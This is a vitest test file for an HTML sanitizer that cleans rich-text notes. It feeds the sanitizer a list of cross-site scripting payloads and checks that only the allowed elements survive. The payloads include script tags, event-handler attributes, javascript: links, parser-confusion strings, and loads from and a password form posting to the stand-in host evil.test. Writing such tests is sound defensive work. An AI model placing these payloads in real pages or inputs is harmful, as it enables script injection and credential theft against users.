import { describe, expect, it } from 'vitest'
import { NOTE_TAGS, blocksOf, partsOf, plainText } from '#shared/domains/notes/rich-text.ts'
import { cleanHtml } from './clean-html.ts'

/** Elements with and without names, in every attribute that browsers run or fetch. */
const ATTRIBUTES = [
  'onclick',
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'onbeforetoggle',
  'style',
  'class',
  'id',
  'href',
  'src',
  'srcdoc',
  'srcset',
  'action',
  'formaction',
  'background',
  'data',
  'poster',
  'ping',
  'xlink:href',
  'xmlns',
  'is',
  'slot',
  'contenteditable',
  'autofocus',
  'tabindex',
  'name',
]

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<form action="//evil.test"><input name=password><button>Sign in</button></form>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.test">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<base href="//evil.test/">',
  '<style>@import "//evil.test/x.css"; body{display:none}</style>',
  '<p style="background:url(//evil.test/x)">x</p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p dir="auto" " onclick="alert(1)">x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<<script>alert(1)//<</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<x onclick=alert(1)>x</x>',
]

/** Nothing but our elements, with `dir` alone. */
const IS_CLEAN = new RegExp(`^(?:[^<>]|</?(?:${NOTE_TAGS.join('|')})(?: dir="(?:ltr|rtl|auto)")?(?: /)?>)*$`)

describe('the text of a note', () => {
  it.each(ATTACKS)('holds nothing but its own elements: %s', (attack) => {
    for (const html of [attack, `<p>before ${attack} after</p>`, `<ul><li>${attack}`])
      expect(cleanHtml(html)).toMatch(IS_CLEAN)
  })

  it.each(NOTE_TAGS)('keeps <%s> without any attribute that a browser runs', (tag) => {
    for (const attribute of ATTRIBUTES)
      for (const value of ['"javascript:alert(1)"', "'x'", 'alert(1)', '"&#106;avascript:alert(1)"'])
        expect(cleanHtml(`<${tag} ${attribute}=${value}>x</${tag}>`)).toMatch(IS_CLEAN)
  })

  it('keeps what the editor writes, in both directions, word for word', () => {
    const html =
      '<h2>Plan</h2><p dir="rtl">مرحبا <strong>بك</strong></p><ul><li><p>a &amp; b &lt; c</p></li></ul><blockquote><p><em>x</em><u>y</u><s>z</s></p></blockquote>'
    expect(cleanHtml(html)).toBe(html)
    expect(cleanHtml(cleanHtml(html))).toBe(html)
  })

  it('of Word becomes plain elements', () => {
    const word = `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>p.MsoNormal{margin:0}</style></head><body>
      <!--StartFragment--><p class="MsoNormal" style="mso-margin-top-alt:auto"><b><span lang="EN-US" style="font-size:12.0pt">Bold<o:p></o:p></span></b></p>
      <p class=MsoListParagraph><![if !supportLists]>·<![endif]>Item</p><!--EndFragment--></body></html>`
    expect(cleanHtml(word).replaceAll(/\s+/g, ' ').trim()).toBe('<p><strong>Bold</strong></p> <p>·Item</p>')
  })

  it('with a hundred thousand nested elements is made flat', () => {
    const deep = '<p>'.repeat(100_000)
    expect(cleanHtml(`${'<ul><li>'.repeat(50_000)}x`)).toMatch(IS_CLEAN)
    expect(plainText(cleanHtml(`${deep}x`))).toBe('x')
    expect((cleanHtml(`${'<ul><li>'.repeat(50_000)}x`).match(/<ul>/g) ?? []).length).toBeLessThan(50)
  })

  it('is read by pages and paper as elements and letters alone, also where the database holds something else', () => {
    const parts = partsOf('<p onclick="x">a<script>alert(1)</script><img src=x onerror=y>&lt;b&gt;</p>')
    expect(parts).toEqual([
      { kind: 'open', tag: 'p', dir: null },
      { kind: 'text', text: 'a' },
      { kind: 'text', text: 'alert(1)' },
      { kind: 'text', text: '<b>' },
      { kind: 'close', tag: 'p' },
    ])
  })

  it('is told block by block for paper', () => {
    expect(
      blocksOf('<h2>Plan</h2><ol><li><p>one</p><ul><li>deep</li></ul></li><li>two<br>lines</li></ol><p></p>'),
    ).toEqual([
      { kind: 'heading', text: 'Plan', depth: 0, marker: '' },
      { kind: 'text', text: 'one', depth: 1, marker: '1.' },
      { kind: 'text', text: 'deep', depth: 2, marker: '•' },
      { kind: 'text', text: 'two\nlines', depth: 1, marker: '2.' },
    ])
  })
})
